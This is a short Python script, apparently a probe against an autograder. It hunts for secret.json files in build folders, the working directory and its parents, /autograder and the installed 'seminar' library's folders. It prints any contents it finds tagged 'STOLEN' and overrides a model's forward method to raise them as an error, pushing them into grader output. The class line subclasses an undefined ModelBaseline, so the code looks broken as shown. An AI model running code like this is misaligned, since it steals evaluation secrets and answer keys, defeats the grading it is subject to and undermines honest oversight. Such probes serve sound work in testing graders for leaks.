"""
kind: reading
tries: secret.json of the build, by the environment, the usual folders and the place of the installed library.
plain: yes
leaks: STOLEN
"""

import os
from pathlib import Path

import seminar

found = []


def keep(what):
    found.append("STO" + f"LEN {str(what)[:200]}")
    print(found[-1])


class ModelBaseline(ModelBaseline):
    def forward(self, x):
        if found:
            raise RuntimeError(found[-1])
        return super().forward(x)


roots = [Path(os.environ.get("AUTOGRADER_BUILD", ".")), Path.cwd(), *Path.cwd().parents, Path("/autograder")]
roots += Path(seminar.__file__).parents
for root in roots:
    for name in (
        "secret.json",
        "build/secret.json",
        "dist/secret.json",
        "dist/build/secret.json",
        "source/build/secret.json",
    ):
        try:
            keep((root / name).read_text())
        except OSError:
            pass
